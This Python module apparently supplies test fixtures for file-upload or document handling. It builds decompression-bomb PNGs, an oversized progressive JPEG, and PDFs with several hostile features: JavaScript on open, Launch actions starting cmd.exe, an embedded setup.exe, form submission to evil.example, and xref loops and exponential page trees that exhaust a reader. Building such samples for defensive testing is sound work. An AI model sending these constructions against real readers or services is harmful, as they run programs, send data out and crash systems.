"""Files as strangers send them: odd ones that open everywhere, and ones made to do harm."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

# --- Pictures ---


def chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, rows: bytes = b"", *, depth: int = 8, colour: int = 0) -> bytes:
    """A PNG that says it is so large; without `rows` it holds next to nothing: a bomb."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", rows or zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def blank_png(width: int, height: int) -> bytes:
    """A whole PNG of so many grey pixels."""
    packer = zlib.compressobj(9)
    rows = [packer.compress(bytes(width + 1)) for _row in range(height)]
    return png_of(width, height, b"".join([*rows, packer.flush()]))


def heic(brand: bytes) -> bytes:
    """The beginning of a file in the container that HEIC, AVIF and films share."""
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1heic" + bytes(500)


def photograph(size: tuple[int, int] = (160, 120), format: str = "JPEG", **options) -> bytes:
    """A picture with something in every corner."""
    buffer = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(buffer, format, **options)
    return buffer.getvalue()


def segment(marker: int, payload: bytes) -> bytes:
    """One segment of a JPEG."""
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def many_scans(width: int, height: int, scans: int) -> bytes:
    """A progressive JPEG that repeats its last scan: a reader does the whole picture each time."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 128).save(buffer, "JPEG", progressive=True)
    whole = buffer.getvalue()
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * scans + whole[-2:]


# --- PDFs ---


def saved(pdf: Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def written_pdf(pages: int = 3) -> Pdf:
    """A PDF with a line on every page."""
    pdf = pikepdf.new()
    for _page in range(pages):
        pdf.add_blank_page()
        pdf.pages[-1].obj.Contents = pdf.make_stream(b"BT (giay to) Tj ET " * 30)
    return pdf


def protected(owner: str = "chu", user: str = "", R: int = 6) -> bytes:  # noqa: N803 - its name
    """A PDF with a password; with an empty `user` it opens, and only forbids changes."""
    return saved(written_pdf(), encryption=pikepdf.Encryption(owner=owner, user=user, R=R))


def with_action(**action) -> Pdf:
    """A PDF that does something as soon as it is opened."""
    pdf = written_pdf()
    pdf.Root.OpenAction = Dictionary(**action)
    return pdf


def javascript() -> Pdf:
    return with_action(S=Name.JavaScript, JS=String("app.alert(1)"))


def named_javascript() -> Pdf:
    pdf = written_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    return pdf


def launch_behind_a_link() -> Pdf:
    pdf = written_pdf()
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[1].obj.Annots = Array([link])
    return pdf


def launch_after_a_harmless_action() -> Pdf:
    following = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    return with_action(S=Name.GoTo, D=String("a"), Next=Array([following]))


def embedded_program() -> Pdf:
    pdf = written_pdf()
    pdf.attachments["setup.exe"] = b"MZ" + bytes(500)
    return pdf


def xfa_form() -> Pdf:
    pdf = written_pdf()
    packets = pdf.make_stream(b"<xdp:xdp/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=packets)
    return pdf


def submits_a_form() -> Pdf:
    pdf = written_pdf()
    leaving = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    pdf.pages[0].obj.AA = Dictionary(O=leaving)
    return pdf


def opens_an_address() -> Pdf:
    return with_action(S=Name.URI, URI=String("https://evil.example/"))


def film() -> Pdf:
    pdf = written_pdf()
    screen = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary()
    )
    pdf.pages[0].obj.Annots = Array([screen])
    return pdf


def signed() -> Pdf:
    pdf = written_pdf()
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x"))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(Dictionary(V=signature))]))
    return pdf


# --- PDFs that cost their reader too much ---


def plain_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalog."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        body
        + b"xref\n0 %d\n0000000000 65535 f \n%b" % (size, table)
        + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    )


def page_tree_of_two_to_the(depth: int) -> bytes:
    """Each node of the tree has the next one twice."""
    nodes = [
        b"<</Type/Pages/Count 2/Kids[%d 0 R %d 0 R]>>" % (number, number)
        for number in range(3, 3 + depth)
    ]
    page = b"<</Type/Page/MediaBox[0 0 9 9]>>"
    return plain_pdf(b"<</Type/Catalog/Pages 2 0 R>>", *nodes, page)


def deep_nesting(depth: int) -> bytes:
    page_tree = b"<</Type/Pages/Count 0/Kids[]>>"
    return plain_pdf(
        b"<</Type/Catalog/Pages 2 0 R/X 3 0 R>>", page_tree, b"[" * depth + b"]" * depth
    )


def flate_of_flate(megabytes: int) -> bytes:
    """A table of objects that is a hundred thousand times as large once it is unpacked."""
    once = zlib.compress(bytes(megabytes * 1024 * 1024), 9)
    packed = zlib.compress(once, 9)
    stream = (
        b"<</Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]/Length %d>>"
        b"stream\n%b\nendstream" % (len(packed), packed)
    )
    body = b"%PDF-1.7\n1 0 obj\n" + stream + b"\nendobj\n"
    return body + b"startxref\n9\n%%EOF\n"


def chain_of_tables(number: int) -> bytes:
    """Each table of objects leads to the one before."""
    parts, place, before = [b"%PDF-1.7\n"], 9, None
    for _table in range(number):
        prev = b"" if before is None else b"/Prev %d" % before
        part = b"xref\n0 0\ntrailer\n<</Size 1/Root 1 0 R%b>>\n" % prev
        parts.append(part)
        before, place = place, place + len(part)
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF\n" % (before or 0)


def broken_objects(number: int) -> bytes:
    return b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n<</A[\n" % one for one in range(number))


def loop_of_tables() -> bytes:
    return b"%PDF-1.7\nxref\n0 0\ntrailer\n<</Size 1/Prev 9>>\nstartxref\n9\n%%EOF\n"
